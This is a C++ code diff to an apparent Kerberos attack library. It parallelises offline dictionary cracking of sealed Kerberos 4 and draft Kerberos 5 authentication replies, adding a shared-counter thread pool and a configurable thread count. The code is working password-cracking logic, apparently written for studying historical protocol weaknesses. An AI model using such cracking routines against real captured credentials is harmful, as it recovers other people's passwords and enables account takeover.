@@ -1,11 +1,86 @@
 #include "src/attacks/passwords.h"
 
+#include <algorithm>
+#include <atomic>
+#include <cstdlib>
+#include <thread>
+
 #include "src/crypto/str2key.h"
 #include "src/krb4/messages.h"
 #include "src/krb5/enclayer.h"
 #include "src/krb5/messages.h"
 
 namespace kattack {
+
+namespace {
+
+// Below this many candidates the thread-spawn overhead beats the win.
+constexpr size_t kMinParallelCandidates = 64;
+
+// Runs try_one(i) for i in [0, n) and returns the smallest matching index.
+// With multiple workers, indices are claimed from a shared counter in order;
+// once some worker records a hit at index h, every index ≥ h still
+// unclaimed is abandoned (a worker's future claims are strictly increasing,
+// so it can stop the moment its claim passes the best hit). Every index
+// below the final best hit is fully tried, which makes the result — the
+// minimal matching index — independent of the thread count.
+template <typename TryFn>
+std::optional<size_t> FirstMatch(size_t n, unsigned threads, const TryFn& try_one) {
+  if (threads <= 1 || n < kMinParallelCandidates) {
+    for (size_t i = 0; i < n; ++i) {
+      if (try_one(i)) {
+        return i;
+      }
+    }
+    return std::nullopt;
+  }
+
+  std::atomic<size_t> next{0};
+  std::atomic<size_t> best{n};
+  auto worker = [&] {
+    for (;;) {
+      size_t i = next.fetch_add(1, std::memory_order_relaxed);
+      if (i >= n || i >= best.load(std::memory_order_relaxed)) {
+        break;
+      }
+      if (try_one(i)) {
+        size_t cur = best.load(std::memory_order_relaxed);
+        while (i < cur && !best.compare_exchange_weak(cur, i, std::memory_order_relaxed)) {
+        }
+      }
+    }
+  };
+  std::vector<std::thread> pool;
+  pool.reserve(threads - 1);
+  for (unsigned t = 0; t + 1 < threads; ++t) {
+    pool.emplace_back(worker);
+  }
+  worker();  // the calling thread is worker number `threads`
+  for (auto& th : pool) {
+    th.join();
+  }
+  size_t hit = best.load(std::memory_order_relaxed);
+  if (hit < n) {
+    return hit;
+  }
+  return std::nullopt;
+}
+
+}  // namespace
+
+unsigned CrackWorkerThreads() {
+  // Values above this add no throughput on any realistic dictionary and can
+  // abort the process with std::system_error at thread creation.
+  constexpr long kMaxThreads = 256;
+  if (const char* env = std::getenv("KERB_CRACK_THREADS")) {
+    long v = std::strtol(env, nullptr, 10);
+    if (v >= 1) {
+      return static_cast<unsigned>(std::min(v, kMaxThreads));
+    }
+  }
+  unsigned hw = std::thread::hardware_concurrency();
+  return hw == 0 ? 1 : hw;
+}
 
 const std::vector<std::string>& CommonPasswordDictionary() {
   static const std::vector<std::string> dictionary = [] {
@@ -66,20 +141,19 @@ std::optional<std::string> CrackSealedReply(kerb::BytesView sealed_reply_body,
                                             const krb4::Principal& victim,
                                             const std::vector<std::string>& dictionary,
                                             uint64_t* attempts_out) {
-  uint64_t attempts = 0;
-  for (const auto& candidate : dictionary) {
-    ++attempts;
-    kcrypto::DesKey guess = kcrypto::StringToKey(candidate, victim.Salt());
+  const std::string salt = victim.Salt();
+  auto hit = FirstMatch(dictionary.size(), CrackWorkerThreads(), [&](size_t i) {
+    kcrypto::DesKey guess = kcrypto::StringToKey(dictionary[i], salt);
     auto plain = krb4::Unseal4(guess, sealed_reply_body);
-    if (plain.ok() && krb4::AsReplyBody4::Decode(plain.value()).ok()) {
-      if (attempts_out != nullptr) {
-        *attempts_out = attempts;
-      }
-      return candidate;
-    }
-  }
+    return plain.ok() && krb4::AsReplyBody4::Decode(plain.value()).ok();
+  });
   if (attempts_out != nullptr) {
-    *attempts_out = attempts;
+    // Reported as the sequential early-exit cost — trials up to and
+    // including the hit — so the figure is thread-count independent.
+    *attempts_out = hit.has_value() ? static_cast<uint64_t>(*hit) + 1 : dictionary.size();
+  }
+  if (hit.has_value()) {
+    return dictionary[*hit];
   }
   return std::nullopt;
 }
@@ -88,20 +162,17 @@ std::optional<std::string> CrackSealedReply5(kerb::BytesView sealed_enc_part,
                                              const krb4::Principal& victim,
                                              const std::vector<std::string>& dictionary,
                                              uint64_t* attempts_out) {
-  krb5::EncLayerConfig enc;  // Draft 3 defaults, as on the wire
-  uint64_t attempts = 0;
-  for (const auto& candidate : dictionary) {
-    ++attempts;
-    kcrypto::DesKey guess = kcrypto::StringToKey(candidate, victim.Salt());
-    if (krb5::UnsealTlv(guess, krb5::kMsgEncAsRepPart, sealed_enc_part, enc).ok()) {
-      if (attempts_out != nullptr) {
-        *attempts_out = attempts;
-      }
-      return candidate;
-    }
-  }
+  const krb5::EncLayerConfig enc;  // Draft 3 defaults, as on the wire
+  const std::string salt = victim.Salt();
+  auto hit = FirstMatch(dictionary.size(), CrackWorkerThreads(), [&](size_t i) {
+    kcrypto::DesKey guess = kcrypto::StringToKey(dictionary[i], salt);
+    return krb5::UnsealTlv(guess, krb5::kMsgEncAsRepPart, sealed_enc_part, enc).ok();
+  });
   if (attempts_out != nullptr) {
-    *attempts_out = attempts;
+    *attempts_out = hit.has_value() ? static_cast<uint64_t>(*hit) + 1 : dictionary.size();
+  }
+  if (hit.has_value()) {
+    return dictionary[*hit];
   }
   return std::nullopt;
 }
